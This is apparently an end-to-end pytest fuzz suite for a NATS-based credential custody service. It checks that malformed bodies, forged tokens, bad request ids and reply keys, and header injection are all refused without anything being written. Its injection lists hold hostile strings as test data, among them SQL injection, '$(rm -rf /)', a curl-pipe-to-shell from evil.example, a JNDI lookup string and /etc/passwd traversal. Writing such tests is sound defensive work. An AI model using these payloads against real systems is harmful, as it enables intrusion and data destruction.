"""Hostile requests straight on the command subjects, from people's own NATS connections (issue 10).

Random bytes, bodies that are not JSON objects, wrong schemas, fields at and over their limits,
bodies over 64 KiB and over NATS's max_payload, injection strings in every text field, forged
identities and hostile headers, unknown commands and forbidden subjects. Every request must get
a clear refusal: a micro error reply (400/403) whose JSON names a Custodia error type (never
``InternalError``), or NATS's own refusal (no responders, permissions violation); never a hang,
never a crash. After each group the service still answers ``sesion.quien`` and nothing has been
written: the ledger stream's message count (read as ``verificador``) is what it was before the
first hostile request. The last test prints how many hostile requests ran: 4 415 when this was
written (the count grows with the service's endpoints; at least 4 000 are required).
"""

from __future__ import annotations

import asyncio
import base64
import json
import threading
import uuid
from collections.abc import Callable, Coroutine, Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any, Literal, TypeVar

import nats
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from nats.errors import MaxPayloadError, NoRespondersError
from nats.errors import TimeoutError as NatsTimeoutError

from custody.service import protocol
from custody.service.callout import inbox_prefix
from custody.vault.client import VaultClient

from .conftest import ServiceWorld, totp_uri

pytestmark = pytest.mark.e2e

T = TypeVar("T")
SERVICE_ERROR = "Nats-Service-Error"
SERVICE_CODE = "Nats-Service-Error-Code"
HYPOTHESIS = settings(
    max_examples=50,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow],
)

# -- the commands and their arguments (CLI.md), as the fuzzer sees them -------------------------


@dataclass(frozen=True)
class Arg:
    """One argument: its kind, whether it is required, its length limit, a plausible value.

    ``free``: free text that any printable string may legitimately fill (a purpose, a name, a
    document reference, a password); hostile strings there are data, so they are sent by a caller
    who may not run the command. Other fields have a grammar and are attacked as a
    coadministrator: only validation stands between the string and the ledger.
    """

    kind: Literal["text", "flag", "date"]
    required: bool
    limit: int
    value: object
    free: bool = False


def text(value: str, limit: int, *, required: bool = True, free: bool = False) -> Arg:
    return Arg("text", required, limit, value, free)


def flag() -> Arg:
    return Arg("flag", False, 0, False)


UNKNOWN_ID = "6d1f3a52-93c4-4c5e-9d7e-2f0b8a1c4e77"
CHANNEL = {
    "oficio": text("DD05/099/2026", 200, required=False, free=True),
    "memorandum": text("", 200, required=False, free=True),
    "correo_oficial": text("", 200, required=False),
    "fecha": Arg("date", False, 10, "2026-01-15"),
}
SCHEMA: dict[str, dict[str, Arg]] = {
    "personas.alta": {
        "usuario": text("nuevo", 64),
        "nombre": text("Nuevo Usuario", 200, free=True),
        "correo": text("nuevo@iecm.mx", 200),
        "rol": text("secretaria", 20),
        "telefono": text("", 40, required=False),
        "distrito": text("", 8, required=False),
        "contrasena": text("nuevo-clave-segura-1", 256, required=False, free=True),
    },
    "cuentas.alta": {
        "cuenta": text("DD09-tiktok", 64),
        "usuario": text("dd09tt", 100),
        "correo": text("dd09.tt@iecm.mx", 200),
        "telefono": text("", 40, required=False),
        "privada": flag(),
        "sin_mensajes": flag(),
        "existente": flag(),
    },
    "cuentas.baja": {"cuenta": text("DD05-x", 64), **CHANNEL},
    "titular": {"distrito": text("DD05", 8), "persona": text("luis", 64), **CHANNEL},
    "designar": {
        "distrito": text("DD05", 8),
        "persona": text("bety", 64),
        "excepcion": text("", 500, required=False, free=True),
        **CHANNEL,
    },
    "ausencia": {
        "distrito": text("DD05", 8),
        "motivo": text("vacaciones", 40),
        "desde": Arg("date", True, 10, "2030-01-01"),
        "hasta": Arg("date", False, 10, "2030-01-15"),
        "sustituto": text("mario", 64),
        "excepcion": text("", 500, required=False, free=True),
        **CHANNEL,
    },
    "ausencia.terminar": {
        "distrito": text("DD05", 8),
        "excepcion": text("", 500, required=False, free=True),
        **CHANNEL,
    },
    "rotar.iniciar": {"cuenta": text("DD05-x", 64)},
    "rotar.confirmar": {
        "cuenta": text("DD05-x", 64),
        "solicitud": text("", 64, required=False),
    },
    "rotar.abandonar": {"cuenta": text("DD05-x", 64)},
    "revelar": {
        "cuenta": text("DD05-x", 64),
        "motivo": text("revisión", 500, free=True),
        "dispositivo": text("", 100, required=False),
    },
    "totp.registrar": {"cuenta": text("DD05-x", 64), "uri": text(totp_uri("DD05-x"), 2048)},
    "codigo": {
        "cuenta": text("DD05-x", 64),
        "motivo": text("", 500, required=False, free=True),
        "dispositivo": text("", 100, required=False),
    },
    "cambios.solicitar": {
        "cuenta": text("DD05-x", 64),
        "campo": text("telefono", 20),
        "detalle": text("5555555555", 2000, free=True),
        **CHANNEL,
    },
    "cambios.aprobar": {
        "solicitud": text(UNKNOWN_ID, 64),
        "motivo": text("", 2000, required=False, free=True),
    },
    "cambios.rechazar": {
        "solicitud": text(UNKNOWN_ID, 64),
        "motivo": text("", 2000, required=False, free=True),
    },
    "cambios.aplicar": {
        "solicitud": text(UNKNOWN_ID, 64),
        "valor": text("", 200, required=False, free=True),
    },
    "incidentes.reportar": {
        "cuenta": text("DD05-x", 64),
        "tipo": text("intervencion", 40),
        "descripcion": text("publicaciones ajenas", 4000, free=True),
        "detectado": text("", 32, required=False),
    },
    "incidentes.notificar": {"incidente": text(UNKNOWN_ID, 64), **CHANNEL},
    "incidentes.contener": {
        "incidente": text(UNKNOWN_ID, 64),
        "detalle": text("rotada", 4000, free=True),
    },
    "incidentes.cerrar": {
        "incidente": text(UNKNOWN_ID, 64),
        "detalle": text("resuelto", 4000, free=True),
    },
    "incidentes.descartar": {
        "incidente": text(UNKNOWN_ID, 64),
        "motivo": text("falsa alarma", 4000, free=True),
    },
    "incidentes.enterado": {
        "incidente": text(UNKNOWN_ID, 64),
        "medidas": text("", 4000, required=False, free=True),
    },
    # issue 19: the institution's controls (custody.service.controls_commands)
    "equipos.alta": {
        "equipo": text("PC-FZ-01", 100),
        "distrito": text("DD05", 8),
        "descripcion": text("PC de comunicación", 200, free=True),
    },
    "horario.especial": {
        "desde": Arg("date", True, 10, "2030-01-01"),
        "hasta": Arg("date", True, 10, "2030-01-02"),
        "inicio": text("", 5, required=False),
        "fin": text("", 5, required=False),
        "motivo": text("proceso electoral", 500, free=True),
        **CHANNEL,
    },
    "calendario.inhabil": {"dia": Arg("date", True, 10, "2030-01-03"), **CHANNEL},
    "recertificar.iniciar": {
        "periodo": text("2030-T1", 10),
        "vence": Arg("date", False, 10, "2030-03-31"),
    },
    "recertificar.revocar": {
        "distrito": text("DD05", 8),
        "motivo": text("cambió de área", 500, free=True),
        "periodo": text("2030-T1", 10, required=False),
    },
}


def base_args(command: str) -> dict[str, Any]:
    """Plausible arguments: only the field under attack makes the request hostile."""
    return {k: a.value for k, a in SCHEMA[command].items() if a.value not in ("", False)}


# Hostile strings that are printable: harmless as data, fatal if anything interprets them.
PRINTABLE_INJECTIONS = [
    "'; DROP TABLE eventos; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; SELECT pg_sleep(10)",
    "$(rm -rf /)",
    "`id`",
    "a && curl http://evil.example/x | sh",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "custodia/data/cuentas/../../sys/seal",
    "DD05-x/../../DD07-x",
    "%s%s%s%n%x",
    "{0.__class__.__mro__}",
    "{{7*7}}${7*7}",
    "${jndi:ldap://evil.example/a}",
    "custodia.events.>",
    "_INBOX.*",
    "<script>alert(1)</script>",
    "DD05-\u0445",  # a Cyrillic "ha": a lookalike identifier
    "\uff24\uff24\uff10\uff15-x",  # fullwidth letters and digits
    "ñ" * 64 + "\u0301" * 64,
]
# Characters no recorded text may contain: NUL and other controls, ANSI escapes, bidi overrides
# (Trojan Source), zero-width and BOM format characters.
FORBIDDEN_INJECTIONS = [
    "abc\x00def",
    "\x00",
    "linea\r\nX-Inyectada: 1",
    "\x1b[31mrojo\x1b[0m",
    "\x9b31m",
    "borrar\x7f",
    "\u202eexe.txt",
    "abc\u2066def\u2069",
    "\u200bDD05-x",
    "\ufeffDD05-x",
]


# Free text where any character is legitimate: a password, a person's name (sealed, not in the
# ledger in clear).
PASSWORD_LIKE = frozenset({"contrasena", "nombre"})


def injections(limit: int) -> list[str]:
    """Every hostile string for a field of ``limit`` characters (long ones at the limit)."""
    long_ones = ["𝕏" * limit, "\u0627" * limit] if limit >= 20 else []
    return PRINTABLE_INJECTIONS + FORBIDDEN_INJECTIONS + long_ones


# -- a synchronous handle on a person's NATS connection ------------------------------------------


@dataclass(frozen=True)
class Outcome:
    """What came back: a reply, or NATS's own refusal."""

    kind: Literal["reply", "no-responders", "timeout", "max-payload"]
    headers: Mapping[str, str] = field(default_factory=dict)
    data: bytes = b""

    def body(self) -> Any:
        return json.loads(self.data)


@dataclass(frozen=True)
class Request:
    subject: str
    body: bytes
    headers: dict[str, str] = field(repr=False)  # may carry a token
    timeout: float = 15.0
    sender: str = "ana"  # whose NATS connection sends it (a person's own, by their token)


class Wire:
    """A nats-py connection on its own event-loop thread, driven from synchronous tests."""

    def __init__(self, options: dict[str, Any], *, reconnect: bool = True) -> None:
        self.errors: list[str] = []
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, daemon=True)
        self._thread.start()
        self._nc: Any = self.run(self._connect(options, reconnect))

    async def _connect(self, options: dict[str, Any], reconnect: bool) -> Any:
        async def on_error(exc: Exception) -> None:
            self.errors.append(str(exc))

        return await nats.connect(
            **options,
            name="custodia-fuzz",
            error_cb=on_error,
            allow_reconnect=reconnect,
        )

    def run(self, coro: Coroutine[Any, Any, T], timeout: float = 300) -> T:
        return asyncio.run_coroutine_threadsafe(coro, self._loop).result(timeout)

    async def _send(self, request: Request) -> Outcome:
        try:
            msg = await asyncio.wait_for(  # a hang is an outcome too, never a stuck test
                self._nc.request(
                    request.subject,
                    request.body,
                    timeout=request.timeout,
                    headers=request.headers or None,
                ),
                request.timeout + 5,
            )
        except NoRespondersError:
            return Outcome("no-responders")
        except (NatsTimeoutError, TimeoutError):
            return Outcome("timeout")
        except MaxPayloadError:
            return Outcome("max-payload")
        return Outcome("reply", dict(msg.headers or {}), bytes(msg.data))

    def send(self, request: Request) -> Outcome:
        return self.run(self._send(request))

    def send_all(self, requests: list[Request], concurrency: int = 16) -> list[Outcome]:
        """All ``requests``, ``concurrency`` at a time, in order."""

        async def all_of() -> list[Outcome]:
            gate = asyncio.Semaphore(concurrency)

            async def one(request: Request) -> Outcome:
                async with gate:
                    return await self._send(request)

            return list(await asyncio.gather(*(one(r) for r in requests)))

        return self.run(all_of())

    def close(self) -> None:
        if not self._nc.is_closed:
            self.run(self._nc.close(), timeout=30)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(10)


DEFAULT = object()


def person_wire(world: ServiceWorld, user: str, *, reconnect: bool = True) -> Wire:
    """``user``'s own NATS connection: their token is the credential (the auth callout), their
    inbox prefix their own. There is no shared client credential any more."""
    return Wire(
        {
            **world.endpoints("cliente").nats_options(),
            "token": world.token(user),
            "inbox_prefix": inbox_prefix(user),
        },
        reconnect=reconnect,
    )


def monitor_wire(world: ServiceWorld) -> Wire:
    """The operator's connection for the service's discovery (``$SRV``), which people lack."""
    return Wire(world.endpoints("administrador").nats_options())


class Fuzz:
    """The world, a wire, the baseline, and the count of hostile requests sent."""

    def __init__(self, world: ServiceWorld, monitor: Wire) -> None:
        self.world = world
        self.monitor = monitor
        self.wires: dict[str, Wire] = {}
        self.cases = 0
        self._tokens = {u: world.token(u) for u in ("ana", "luis", "bety", "sofia", "mario")}
        self.endpoints = self._discover()
        self.baseline = world.ledger_messages()
        self.internal_failures = world.log_text().count("fallo_interno")
        self.crashes = self.endpoint_crashes()

    def _discover(self) -> dict[str, str]:
        """The service's endpoints (``$SRV.INFO``): command name -> subject."""
        info = self.monitor.send(Request("$SRV.INFO.custodia", b"", {}))
        assert info.kind == "reply"
        return {
            str(e["subject"])[len(protocol.SUBJECT_PREFIX) + 1 :]: str(e["subject"])
            for e in info.body()["endpoints"]
        }

    def endpoint_crashes(self) -> int:
        """Requests whose endpoint handler raised (micro ``$SRV.STATS``: ``num_errors``)."""
        stats = self.monitor.send(Request("$SRV.STATS.custodia", b"", {}))
        assert stats.kind == "reply"
        return sum(int(e.get("num_errors") or 0) for e in stats.body()["endpoints"])

    def request(
        self,
        command: str,
        body: bytes | Mapping[str, Any] = b"{}",
        *,
        user: str | None = "ana",
        token: object = DEFAULT,
        request_id: object = DEFAULT,
        reply_key: object = DEFAULT,
        subject: str | None = None,
        timeout: float = 15.0,
    ) -> Request:
        """A request that is well-formed except where told otherwise (``None``: header absent)."""
        headers: dict[str, str] = {}
        chosen = self._tokens[user] if token is DEFAULT and user else token
        if isinstance(chosen, str):
            headers[protocol.TOKEN_HEADER] = chosen
        rid = str(uuid.uuid4()) if request_id is DEFAULT else request_id
        if isinstance(rid, str):
            headers[protocol.REQUEST_ID_HEADER] = rid
        key = protocol.ReplyKey.generate().public_b64() if reply_key is DEFAULT else reply_key
        if isinstance(key, str):
            headers[protocol.REPLY_KEY_HEADER] = key
        if isinstance(body, Mapping) and isinstance(rid, str):
            # Password arguments travel sealed (custody.vault.sealed_args), as the client sends
            # them:
            # sealed by a coadministrator's token; a wrongly typed one is sent as it is.
            from custody.vault.client import VaultClient
            from custody.vault.sealed_args import seal_arguments

            vault = VaultClient(self.world.endpoints().vault_addr, self._tokens["ana"])
            body = seal_arguments(vault, command, rid, body)
        payload = body if isinstance(body, bytes) else json.dumps(body).encode()
        subject = subject or f"{protocol.SUBJECT_PREFIX}.{command}"
        return Request(subject, payload, headers, timeout, user or "ana")

    @property
    def wire(self) -> Wire:
        """ana's connection (where requests with no person's token are sent from)."""
        return self.wire_of("ana")

    def wire_of(self, user: str) -> Wire:
        if user not in self.wires:
            self.wires[user] = person_wire(self.world, user)
        return self.wires[user]

    def send(self, request: Request) -> Outcome:
        self.cases += 1
        return self.wire_of(request.sender).send(request)

    def send_all(self, requests: list[Request]) -> list[Outcome]:
        """Each person's requests from their own connection, in order."""
        self.cases += len(requests)
        outcomes: dict[int, Outcome] = {}
        for sender in dict.fromkeys(r.sender for r in requests):
            mine = [i for i, r in enumerate(requests) if r.sender == sender]
            sent = self.wire_of(sender).send_all([requests[i] for i in mine])
            outcomes.update(zip(mine, sent, strict=True))
        return [outcomes[i] for i in range(len(requests))]

    def close(self) -> None:
        for wire in [*self.wires.values(), self.monitor]:
            wire.close()

    def assert_unharmed(self) -> None:
        """The service is up, answers a valid request, crashed on nothing and wrote nothing."""
        assert self.world.alive()
        quien = self.wire.send(self.request("sesion.quien", reply_key=None))
        assert quien.kind == "reply"
        assert quien.body() == {
            "ok": True,
            "data": {"usuario": "ana", "roles": {"coadministrador": None}},
        }
        assert self.world.log_text().count("fallo_interno") == self.internal_failures
        assert self.endpoint_crashes() == self.crashes
        assert self.world.ledger_messages() == self.baseline


def refusal(outcome: Outcome, *expected: str) -> dict[str, Any]:
    """Assert a clear refusal: a micro error reply whose body names a Custodia error (one of
    ``expected``, if given, anywhere in its class chain); the error body."""
    assert outcome.kind == "reply", outcome.kind
    assert outcome.headers.get(SERVICE_CODE) in ("400", "403"), outcome.headers
    body = outcome.body()
    assert body["ok"] is False
    error = body["error"]
    assert error["type"] == outcome.headers[SERVICE_ERROR]
    assert error["type"] != "InternalError"
    assert error["chain"][0] == error["type"]
    assert error["chain"][-1] == "CustodiaError"
    if expected:
        assert set(expected) & set(error["chain"]), error
    return dict(error)


@pytest.fixture(scope="module")
def fuzz(service_world: ServiceWorld) -> Iterator[Fuzz]:
    """The shared world plus one request id already used by luis for a real change request
    (written before the baseline); each person sends from their own connection."""
    fuzz = Fuzz(service_world, monitor_wire(service_world))
    try:
        request = fuzz.request(
            "cambios.solicitar",
            {
                "cuenta": "DD05-x",
                "campo": "telefono",
                "detalle": "conmutador",
                "correo_oficial": "titular.dd05@iecm.mx",
            },
            user="luis",
            request_id="fuzz-luis-0001",
        )
        assert fuzz.wire_of("luis").send(request).body()["ok"] is True
        fuzz.baseline = service_world.ledger_messages()
        yield fuzz
    finally:
        fuzz.close()


# -- bodies ------------------------------------------------------------------------------------

WRITE_COMMANDS = sorted(SCHEMA)


@HYPOTHESIS
@given(command=st.sampled_from(WRITE_COMMANDS), body=st.binary(max_size=2048))
def test_random_bytes_are_refused(fuzz: Fuzz, command: str, body: bytes) -> None:
    """Random bytes as the body of any command, from a coadministrator: refused (not JSON, not
    an object, or missing arguments), never run."""
    refusal(fuzz.send(fuzz.request(command, body)))


NOT_OBJECTS = [
    b"null",
    b"[]",
    b"[1, 2]",
    b'"texto"',
    b"42",
    b"-1.5e308",
    b"true",
    b"{",
    b"}",
    b"{'cuenta': 'DD05-x'}",
    b'{"cuenta": "DD05-x",}',
    b"\xff\xfe{\x00}\x00",
    b"\xef\xbb\xbf{}",
    b"\xc0\xaf\xc0\xaf",
    b"\x00" * 64,
    b"SELECT * FROM eventos;",
    b"[" * 60_000,
    b'{"a":' * 8_000 + b"1" + b"}" * 8_000,
    b'{"cuenta": "\\ud800"}',
    b'{"motivo": "\\udfff\\ud800"}',
]


def test_non_json_and_non_objects_are_protocol_errors(fuzz: Fuzz) -> None:
    """Every endpoint refuses a body that is not a UTF-8 JSON object (including one nested
    60 000 deep and one smuggling lone surrogates) as a ProtocolError, before authentication."""
    requests = [fuzz.request(c, body) for c in sorted(fuzz.endpoints) for body in NOT_OBJECTS]
    for outcome in fuzz.send_all(requests):
        refusal(outcome, "ProtocolError")
    fuzz.assert_unharmed()


JSON_SCALARS = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=50)
)
NON_OBJECTS = st.recursive(
    JSON_SCALARS, lambda inner: st.lists(inner, max_size=5), max_leaves=20
).filter(lambda v: not isinstance(v, dict))


@HYPOTHESIS
@given(command=st.sampled_from(WRITE_COMMANDS), value=NON_OBJECTS)
def test_json_that_is_not_an_object_is_refused(fuzz: Fuzz, command: str, value: object) -> None:
    """Any JSON value but an object, on any command: a ProtocolError."""
    refusal(fuzz.send(fuzz.request(command, json.dumps(value).encode())), "ProtocolError")


# -- schema ------------------------------------------------------------------------------------

WRONG_TYPES = st.one_of(
    st.integers(),
    st.floats(),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=2),
)
EXTRA = st.dictionaries(
    st.text(max_size=12).filter(lambda k: all(k not in args for args in SCHEMA.values())),
    JSON_SCALARS,
    max_size=3,
)


@st.composite
def broken_schema(draw: st.DrawFn) -> tuple[str, str, dict[str, Any]]:
    """Plausible arguments with one field broken: a required one missing or empty, or any one
    of the wrong type (a number, a list, an object; a string for a flag)."""
    command = draw(st.sampled_from(WRITE_COMMANDS))
    schema = SCHEMA[command]
    name = draw(st.sampled_from(sorted(schema)))
    arg = schema[name]
    args = base_args(command)
    if arg.kind == "flag":
        args[name] = draw(WRONG_TYPES | st.text(max_size=5) | st.none())
    elif arg.required and draw(st.booleans()):
        if draw(st.booleans()):
            args.pop(name, None)
        else:
            args[name] = draw(st.sampled_from(["", None]))
    else:
        if name in CHANNEL and name not in ("oficio", "fecha"):
            args.pop("oficio", None)
        args[name] = draw(WRONG_TYPES | st.booleans())
    return command, name, args


@HYPOTHESIS
@given(case=broken_schema())
def test_wrong_schema_is_a_validation_error(
    fuzz: Fuzz, case: tuple[str, str, dict[str, Any]]
) -> None:
    """A coadministrator's request with one missing, empty or wrongly typed argument is
    refused naming that argument; nothing runs."""
    command, name, args = case
    error = refusal(fuzz.send(fuzz.request(command, args)), "ValidationError")
    assert error["attrs"].get("field") == name, (command, name, error)


@HYPOTHESIS
@given(command=st.sampled_from(WRITE_COMMANDS), extra=EXTRA.filter(bool))
def test_unknown_arguments_are_refused_not_ignored(
    fuzz: Fuzz, command: str, extra: dict[str, Any]
) -> None:
    """Valid arguments plus fields the command does not take (a misspelt option, say): refused
    naming them, before anything runs (the fixture checks nothing was written)."""
    error = refusal(
        fuzz.send(fuzz.request(command, {**extra, **base_args(command)})), "UnknownArgumentError"
    )
    assert error["attrs"]["command"] == command
    assert error["attrs"]["names"] == sorted(k[:40] for k in extra)[:5], (command, error)


def test_the_service_schema_is_the_fuzzers() -> None:
    """The fuzzer's model of every write command's arguments is the service's own."""
    from custody.service.spec import COMMANDS

    for command, schema in SCHEMA.items():
        assert COMMANDS[command].arguments == frozenset(schema), command


def test_fields_at_and_over_their_limits(fuzz: Fuzz) -> None:
    """A text field one character over its limit is refused naming the field; at its limit it
    is accepted by validation, so it is sent by mario, who may run none of these on DD05; a
    body of exactly 64 KiB is decoded and refused, one byte more is a ProtocolError."""
    over, at = [], []
    for command, schema in SCHEMA.items():
        for name, arg in schema.items():
            if arg.kind != "text":
                continue
            args = base_args(command)
            if name in CHANNEL:
                args.pop("oficio", None)
            over.append((name, fuzz.request(command, {**args, name: "a" * (arg.limit + 1)})))
            at.append(fuzz.request(command, {**args, name: "a" * arg.limit}, user="mario"))
    for (name, _), outcome in zip(over, fuzz.send_all([r for _, r in over]), strict=True):
        assert refusal(outcome, "ValidationError")["attrs"].get("field") == name
    for outcome in fuzz.send_all(at):
        refusal(outcome)

    padding = json.dumps({"cuenta": "DD05-x", "motivo": ""}).encode()
    exact = padding[:-2] + b"x" * (protocol.MAX_REQUEST_BYTES - len(padding)) + b'"}'
    assert len(exact) == protocol.MAX_REQUEST_BYTES
    error = refusal(fuzz.send(fuzz.request("revelar", exact, user="bety")), "ValidationError")
    assert error["attrs"]["field"] == "motivo"
    too_big = exact[:-2] + b'x"}'
    refusal(fuzz.send(fuzz.request("revelar", too_big, user="bety")), "ProtocolError")
    fuzz.assert_unharmed()


def test_bodies_over_nats_max_payload_never_reach_the_service(fuzz: Fuzz) -> None:
    """Over the server's max_payload the client library refuses to send; a client that lies
    about the limit is disconnected by nats-server itself. The service is untouched."""
    huge = b'{"motivo": "' + b"x" * (2 * 1024 * 1024) + b'"}'
    assert fuzz.send(fuzz.request("revelar", huge)).kind == "max-payload"

    liar = person_wire(fuzz.world, "ana", reconnect=False)
    try:
        liar._nc._max_payload = 64 * 1024 * 1024
        fuzz.cases += 1
        outcome = liar.send(fuzz.request("revelar", huge, timeout=1))
        assert outcome.kind in ("timeout", "no-responders")
        # How the drop shows depends on who sees it first: nats-server's "-ERR 'Maximum
        # Payload Violation'" (nats-py keeps it as ``last_error``, no callback), a reset while
        # the client is still writing, or the end of the stream once the server closed it.
        seen = [*liar.errors, str(liar._nc.last_error)]
        dropped = ("maximum payload", "connection reset", "connection closed", "unexpected eof")
        assert any(d in e.lower() for e in seen for d in dropped), seen
        assert not liar._nc.is_connected
    finally:
        liar.close()
    fuzz.assert_unharmed()


# -- injection strings in every text field -----------------------------------------------------


# Registrations get a name nobody has: one wrongly accepted case must not hide the next ones
# behind "already registered".
FRESH: dict[str, Callable[[int], dict[str, str]]] = {
    "personas.alta": lambda n: {"usuario": f"fz{n}"},
    "cuentas.alta": lambda n: {"cuenta": f"DD09-fz{n}"},
}


def test_injection_strings_in_every_text_field(fuzz: Fuzz) -> None:
    """SQL, shell, path traversal, format strings, subject wildcards, lookalikes, NUL and
    control characters, ANSI escapes, bidi overrides, very long Unicode: in every text field of
    every command. Fields with a grammar are attacked as a coadministrator (validation alone must
    refuse); free-text fields as mario, who may run none of these on DD05, and, for characters
    no recorded text may hold, also as a coadministrator."""
    cases: list[tuple[str, str, str, str]] = []
    requests: list[Request] = []
    for command, schema in SCHEMA.items():
        for name, arg in schema.items():
            if arg.kind == "flag":
                continue
            args = base_args(command)
            if name in CHANNEL and name not in ("fecha", "oficio"):
                args.pop("oficio", None)
            for value in injections(arg.limit):
                fresh = FRESH[command](len(requests)) if command in FRESH else {}
                if name not in fresh:
                    args = {**args, **fresh}
                users = ["mario"] if arg.free else ["ana"]
                if arg.free and value in FORBIDDEN_INJECTIONS and name not in PASSWORD_LIKE:
                    users.append("ana")
                for user in users:
                    cases.append((command, name, user, ascii(value)[:40]))
                    requests.append(fuzz.request(command, {**args, name: value}, user=user))
    outcomes = fuzz.send_all(requests)
    accepted = [
        (case, outcome.kind, outcome.data[:120])
        for case, outcome in zip(cases, outcomes, strict=True)
        if outcome.kind != "reply" or SERVICE_CODE not in outcome.headers
    ]
    assert not accepted
    for outcome in outcomes:
        refusal(outcome)
    fuzz.assert_unharmed()


# -- identities and headers --------------------------------------------------------------------


def _wrapping_token(vault: VaultClient) -> str:
    body = vault.request(
        "POST",
        "sys/wrapping/wrap",
        operation="wrap",
        json={"fuzz": "x"},
        wrap_ttl=120,
    )
    assert body is not None
    return str(body["wrap_info"]["token"])


def test_forged_identities_are_not_authenticated(fuzz: Fuzz, tmp_path: Any) -> None:
    """No token, an empty or random one, a revoked one, a wrapping token, the root token, the
    service's own token: NotAuthenticatedError (403) on every endpoint; nothing runs."""
    world = fuzz.world
    root = world.root_vault()
    revoked = world.login("bety", tmp_path / "revocada.json").token
    root.request("POST", "auth/token/revoke", operation="revoke", json={"token": revoked})
    service_token = (world.home / "secrets" / "servicio-token").read_text().strip()
    forged: list[object] = [
        None,
        "",
        "s.aaaaaaaaaaaaaaaaaaaaaaaa",
        "hvs." + "A" * 90,
        str(uuid.uuid4()),
        "x" * 20_000,
        "tökén con espacios",
        "null",
        "../../sys/seal",
        revoked,
        _wrapping_token(root),
        root.token,
        service_token,
    ]
    requests = [
        fuzz.request(c, base_args(c) if c in SCHEMA else {}, user=None, token=t)
        for c in sorted(fuzz.endpoints)
        for t in forged
    ]
    for outcome in fuzz.send_all(requests):
        error = refusal(outcome, "NotAuthenticatedError")
        assert outcome.headers[SERVICE_CODE] == "403"
        assert set(error["attrs"]) == {"reason"}
    fuzz.assert_unharmed()


def test_a_token_acts_only_as_its_own_person(fuzz: Fuzz) -> None:
    """Arguments cannot claim another identity: bety's token with a body naming ana as the
    actor cannot rotate (coadministrators only); mario's cannot read DD05's password or code,
    file or report for DD05."""
    claims = {"actor": "ana", "usuario_actor": "ana", "caller": {"username": "ana"}, "token": "x"}

    def cases(claims: dict[str, Any]) -> list[Request]:
        return [
            fuzz.request("rotar.iniciar", {"cuenta": "DD05-x", **claims}, user="bety"),
            fuzz.request("designar", {**base_args("designar"), **claims}, user="bety"),
            fuzz.request("titular", {"distrito": "DD05", "persona": "bety", **claims}, user="bety"),
            fuzz.request("revelar", {"cuenta": "DD05-x", "motivo": "x", **claims}, user="mario"),
            fuzz.request("codigo", {"cuenta": "DD05-x", **claims}, user="mario"),
            fuzz.request("revelar", {"cuenta": "DD05-x", "motivo": "x", **claims}, user="sofia"),
            fuzz.request(
                "cambios.solicitar", {**base_args("cambios.solicitar"), **claims}, user="mario"
            ),
            fuzz.request(
                "incidentes.reportar", {**base_args("incidentes.reportar"), **claims}, user="mario"
            ),
            fuzz.request(
                "personas.alta",
                {**base_args("personas.alta"), "rol": "coadministrador", **claims},
                user="luis",
            ),
        ]

    # Claims in the body are not arguments of any command: refused before anything runs.
    for outcome in fuzz.send_all(cases(claims)):
        refusal(outcome, "UnknownArgumentError")
    # Without them, each token acts as its own person, who may not do these things.
    for outcome in fuzz.send_all(cases({})):
        refusal(outcome, "PermissionDeniedError", "VaultPermissionDeniedError", "ScopeError")
    fuzz.assert_unharmed()


BAD_REQUEST_IDS: list[object] = [
    None,
    "",
    "short",
    "x" * 65,
    "abc def ghi",
    "../../etc/passwd",
    "abcdefgh\x00",
    "１２３４５６７８９",
    "$(reboot)-aaaaaaa",
]


def test_forged_request_ids(fuzz: Fuzz) -> None:
    """A malformed request id is a ProtocolError on every endpoint. Luis's request id, reused by
    mario, is just mario's own (refused: DD05 is not his); reused by luis for another body, it
    answers the recorded reply and files nothing new."""
    requests = [
        fuzz.request(c, base_args(c) if c in SCHEMA else {}, request_id=rid)
        for c in sorted(fuzz.endpoints)
        for rid in BAD_REQUEST_IDS
    ]
    for outcome in fuzz.send_all(requests):
        refusal(outcome, "ProtocolError")

    other = base_args("cambios.solicitar") | {"detalle": "otro"}
    stolen = fuzz.send(
        fuzz.request("cambios.solicitar", other, user="mario", request_id="fuzz-luis-0001")
    )
    refusal(stolen, "PermissionDeniedError")
    assert b"conmutador" not in stolen.data
    replay = fuzz.send(
        fuzz.request("cambios.solicitar", other, user="luis", request_id="fuzz-luis-0001")
    )
    assert replay.body()["ok"] is True
    assert replay.body()["data"]["detalle"] == "conmutador"
    fuzz.assert_unharmed()


def _low_order_key() -> str:
    return base64.b64encode(bytes(32)).decode()


BAD_REPLY_KEYS: list[object] = [
    None,
    "",
    "!!!",
    base64.b64encode(b"\x01" * 31).decode(),
    base64.b64encode(b"\x01" * 33).decode(),
    _low_order_key(),
    "A" * 10_000,
]


def test_bad_reply_keys_refuse_sealing_commands_before_they_run(fuzz: Fuzz) -> None:
    """A command whose reply is sealed (rotar iniciar, revelar, codigo) without a usable reply
    key is refused before it runs, even for callers entitled to it: the read or the rotation
    must not be recorded for a caller who is then told it failed."""
    entitled = [
        ("rotar.iniciar", {"cuenta": "DD05-x"}, "ana"),
        ("revelar", {"cuenta": "DD05-x", "motivo": "revisión"}, "bety"),
        ("codigo", {"cuenta": "DD05-x"}, "bety"),
    ]
    requests = [
        fuzz.request(command, args, user=user, reply_key=key)
        for command, args, user in entitled
        for key in BAD_REPLY_KEYS
    ]
    for outcome in fuzz.send_all(requests):
        refusal(outcome, "ProtocolError")
    fuzz.assert_unharmed()


def test_header_injection_in_the_token(fuzz: Fuzz) -> None:
    """A token header smuggling a second header line (CR LF) does not authenticate."""
    smuggled = "nada\r\nCustodia-Token: " + fuzz.world.token("ana")
    request = fuzz.request("rotar.iniciar", {"cuenta": "DD05-x"}, token=smuggled, timeout=3)
    own = person_wire(fuzz.world, "ana", reconnect=False)  # it may not survive it
    try:
        fuzz.cases += 1
        outcome = own.send(request)
    finally:
        own.close()
    if outcome.kind == "reply":
        refusal(outcome, "NotAuthenticatedError", "ProtocolError")
    else:
        assert outcome.kind in ("timeout", "no-responders")
